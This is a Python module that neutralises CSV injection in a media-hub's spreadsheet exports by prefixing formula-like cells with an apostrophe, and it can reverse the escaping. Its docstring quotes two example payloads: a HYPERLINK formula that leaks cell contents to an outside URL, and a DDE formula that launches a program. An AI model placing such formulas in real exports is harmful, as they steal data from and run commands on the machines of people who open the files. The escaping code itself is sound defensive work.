"""The cells of every CSV file media-hub writes, made safe to open in Excel or LibreOffice.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return)
as a formula: a title typed as `=HYPERLINK("http://…/?leak="&A2,"Cliquez ici")` would send
the sheet's other cells away when clicked, and `@SUM(1+1)*cmd|' /C calc'!A0` can start a
program through DDE (CWE-1236). As OWASP recommends, such a text is written behind an
apostrophe, which spreadsheets show as text. A text that already begins with an apostrophe
gets one more, so that `restored` takes exactly one off and every text comes back as it was,
an apostrophe typed by a librarian included. A cell of that one character alone (the `-` of
"no series" in a report) is no formula and is left as it is.

Numbers (an id, an episode, a negative change in views) are written as numbers: a spreadsheet
reads them as values, never as formulas, and programs reading the CSV expect digits.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO

# What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_APOSTROPHE = "'"


def inert(value: object) -> object:
    """`value` as a CSV cell that no spreadsheet runs: text that could be a formula (or that
    begins with an apostrophe) behind an apostrophe; anything else as it is."""
    if isinstance(value, str) and _escaped(value):
        return _APOSTROPHE + value
    return value


def restored(text: str) -> str:
    """The text `inert` was given: exactly the apostrophe it added is taken off."""
    if text.startswith(_APOSTROPHE) and _escaped(text[1:]):
        return text[1:]
    return text


def _escaped(text: str) -> bool:
    return text.startswith(_APOSTROPHE) or (len(text) > 1 and text.startswith(FORMULA_STARTS))


class InertWriter:
    """`csv.writer` whose every row goes through `inert` (None is an empty cell)."""

    def __init__(self, stream: IO[str], *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(stream, lineterminator=lineterminator)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(["" if cell is None else inert(cell) for cell in row])
